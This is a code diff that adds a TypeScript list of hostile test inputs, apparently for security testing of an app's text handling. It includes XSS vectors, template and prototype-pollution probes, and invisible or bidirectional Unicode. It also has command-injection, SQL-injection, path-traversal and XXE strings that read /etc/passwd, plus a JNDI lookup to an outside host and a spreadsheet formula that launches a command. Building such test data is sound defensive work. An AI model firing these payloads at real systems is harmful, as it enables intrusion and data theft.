@@ -1,0 +1,177 @@
+const run = 'window.intruder=1';
+
+/** Ways to have a page run a script out of a text. */
+const scripts = [
+  ...['<script>', '<ScRiPt >', '<script/x>', '<script\t>', '<svg><script>', '<math><script>'].map(
+    (tag) => `${tag}${run}</script>`,
+  ),
+  ...['">', "'>", '`>', '-->', ']]>', '*/', '</title>', '</style>', '</textarea>', '</script>'].map(
+    (end) => `${end}<script>${run}</script>`,
+  ),
+  ...[
+    'img src=x onerror',
+    'svg onload',
+    'body onload',
+    'iframe onload',
+    'video src=x onerror',
+  ].flatMap((tag) => [
+    `<${tag}=${run}>`,
+    `<${tag}="${run}"//`,
+    `"><${tag}=${run}>`,
+    `<${tag.toUpperCase()}=${run}>`,
+  ]),
+  ...[
+    'input autofocus onfocus',
+    'details open ontoggle',
+    'marquee onstart',
+    'style onload',
+  ].flatMap((tag) => [`<${tag}=${run}>`, `'><${tag}='${run}'`, `<x/><${tag}\u000C=${run}>`]),
+  ...['"', "'", '`', ' '].map((quote) => `${quote} onfocus=${run} autofocus x=${quote}`),
+  ...[
+    'javascript:',
+    'JaVaScRiPt:',
+    'java\tscript:',
+    '\u0001javascript:',
+    'javascript://%0a',
+    'vbscript:',
+  ].map((scheme) => `${scheme}${run}`),
+  ...['text/html', 'image/svg+xml', 'text/javascript', 'application/xhtml+xml'].map(
+    (type) => `data:${type},<script>${run}</script>`,
+  ),
+  `<a href="javascript:${run}">press</a>`,
+  `<form action="javascript:${run}"><button>press</button></form>`,
+  `<iframe srcdoc="<script>parent.intruder=1</script>"></iframe>`,
+  `<object data="data:text/html,<script>parent.intruder=1</script>">`,
+  `<base href="https://elsewhere.example/">`,
+  `<meta http-equiv="refresh" content="0;url=javascript:${run}">`,
+  `<link rel="stylesheet" href="data:text/css,*{display:none}">`,
+  `<template shadowrootmode="open"><script>${run}</script></template>`,
+  `&lt;script&gt;${run}&lt;/script&gt;`,
+  `&#60;script&#62;${run}&#60;/script&#62;`,
+  `%3Cscript%3E${run}%3C/script%3E`,
+  `\\u003cscript\\u003e${run}\\u003c/script\\u003e`,
+  `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
+  `<math><mtext><table><mglyph><style><img src=x onerror=${run}>`,
+];
+
+/** Texts that a template would work out, ours among them. */
+const templates = [
+  ...[
+    '{{',
+    '{{{',
+    '{{-',
+    '${',
+    '#{',
+    '<%=',
+    '<?=',
+    '[[',
+    '{%',
+    '@(',
+    '*{',
+    '~{',
+    '$t(',
+    '%(',
+  ].flatMap((begin) => [`${begin}7*7}}`, `${begin} constructor.constructor('${run}')() `]),
+  '{{App_Name}}',
+  '$t(App_Name)',
+  '$t(Contact_Us, {"count": 2})',
+  '{{message}} {{-firstName}}',
+  '<0>App_Name</0>',
+  'Contact_Us',
+];
+
+/** Names and texts that would change what all objects have. */
+const prototypes = [
+  ...['__proto__', 'constructor', 'prototype', 'toString', 'valueOf', 'hasOwnProperty'].flatMap(
+    (name) => [name, `${name}[polluted]=1`, `{"${name}":{"polluted":1}}`],
+  ),
+  '{"constructor":{"prototype":{"polluted":1}}}',
+  '__proto__.polluted=1',
+  '[object Object]',
+  'null',
+  'undefined',
+  'NaN',
+  'true',
+  '[]',
+  '{}',
+  '-1e999',
+];
+
+/** Characters that end texts, turn them around, or are not seen. */
+const characters = [
+  '\u0000',
+  '\u0001',
+  '\u0007',
+  '\u0008',
+  '\u001B[31m',
+  '\u007F',
+  '\u0085',
+  '\u00A0',
+  '\u00AD',
+  '\u061C',
+  '\u200B',
+  '\u200D',
+  '\u200E',
+  '\u200F',
+  '\u2028',
+  '\u2029',
+  '\u202A',
+  '\u202B',
+  '\u202D',
+  '\u202E',
+  '\u2060',
+  '\u2066',
+  '\u2067',
+  '\u2068',
+  '\uFEFF',
+  '\uFFFC',
+  '\uFFFF',
+  '\u{E0001}',
+  '\u{1D173}',
+  '\u0301'.repeat(60),
+  '\uFE0F',
+  '👩🏽‍🔧',
+  '𓀀',
+  'ﷺ',
+  'ـ'.repeat(40),
+].map((character) => `a${character}exe.${character}ب`);
+
+/** What other programs than a browser would read as theirs. */
+const others = [
+  "'; DROP TABLE lifts; --",
+  '" OR ""="',
+  '=HYPERLINK("https://elsewhere.example","open")',
+  '@SUM(1+1)*cmd|"/c calc"!A0',
+  '$(touch /tmp/intruder)',
+  '`touch /tmp/intruder`',
+  '; cat /etc/passwd',
+  '../../../../etc/passwd',
+  '..\\..\\windows\\win.ini',
+  'file:///etc/passwd',
+  '=?UTF-8?Q?=42cc:_a=40b.co?=',
+  'a@b.co%0d%0aBcc: c@d.co',
+  'a@b.co, c@d.co',
+  '(cn=*)(|(uid=*))',
+  '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]>&b;',
+  '${jndi:ldap://elsewhere.example/a}',
+  '%n%n%n%s%x',
+  'http://[::1]:25/',
+  '.',
+  '"',
+  '<',
+  '&',
+  '%',
+  '0'.repeat(400),
+  'م'.repeat(700),
+  '🛗'.repeat(300),
+  'x'.repeat(1500),
+];
+
+/** Texts that people with bad intentions write; each that runs sets `intruder` on the window, or `polluted` on all objects. */
+export const payloads: readonly string[] = [
+  ...scripts,
+  ...templates,
+  ...prototypes,
+  ...characters,
+  ...others,
+];
